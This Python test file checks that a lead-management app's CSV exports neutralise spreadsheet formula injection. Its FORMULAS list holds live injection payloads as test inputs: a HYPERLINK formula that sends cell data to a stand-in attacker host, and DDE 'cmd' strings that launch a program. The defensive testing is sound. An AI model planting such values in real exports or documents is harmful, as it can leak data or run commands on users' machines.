"""Lists as CSV: whatever strangers wrote, no spreadsheet runs it."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from leadmill.story import ANSWERS, Door
from tests.e2e.market import Market

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u200b=1+1",
    " =1+1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
]


def rows(door: Door, path: str) -> list[dict[str, str]]:
    answer = door.request("GET", f"/api/{path}", headers={"Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take it for a formula."""
    begins = cell.strip("\u200b \t\r\n")[:1]
    return begins in set("=+-@|%\uff1d") and not cell.lstrip("+-").replace(".", "").isdigit()


@pytest.fixture(scope="module")
def leads(market: Market) -> list[str]:
    found = []
    for formula in FORMULAS:
        answer = market.public.call(
            "submit_lead",
            niche=market.slug,
            contact={"name": formula, "email": f"{uuid.uuid4().hex[:8]}@customer.example"},
            answers=ANSWERS,
            attribution={"partner": formula},
        )
        found.append(answer["lead_id"])
    return found


@pytest.mark.parametrize("select", ["", "select=*&"])
def test_no_list_holds_a_formula(market: Market, leads: list[str], select: str) -> None:
    found = rows(market.admin, f"leads?{select}id=in.({','.join(leads)})&order=created_at,id")
    cells = [cell for row in found for cell in row.values()]
    assert [cell for cell in cells if runs(cell)] == []
    said = [row["contact_name"].removeprefix("'") for row in found]
    assert said == [formula.replace("\u200b", "") for formula in FORMULAS], "nothing is left out"


@pytest.mark.parametrize(
    "query",
    [
        *("select=contact_name", "id=not.is.null&select=contact_name", "select=id,contact_name"),
        *("select=*,niches(name)", "select=answers->>purpose", "select=%2A,id"),
    ],
)
def test_parts_of_rows_are_not_to_be_had(market: Market, leads: list[str], query: str) -> None:
    for accept in ("text/csv", "application/json;q=0.1,TEXT/CSV"):
        answer = market.admin.request("GET", f"/api/leads?{query}", headers={"Accept": accept})
        assert (answer.status_code, answer.json()["code"]) == (406, "LM342")


def test_numbers_dates_and_nothing_stay_what_they_are(market: Market) -> None:
    [niche] = rows(market.admin, f"niches?slug=eq.{market.slug}")
    shown = (niche["slug"], niche["is_active"], niche["retired_at"])
    assert shown == (market.slug, "true", "")
    assert uuid.UUID(niche["id"])
    assert rows(market.admin, "niches?slug=eq.none") == []
    as_json = market.admin.get(f"niches?slug=eq.{market.slug}")
    assert list(niche) == list(as_json[0]), "the columns in their order"


def test_what_a_function_lists_is_guarded_too(market: Market) -> None:
    answer = market.member.request(
        "GET", "/api/rpc/search_listings?page_size=1", headers={"Accept": "text/csv"}
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
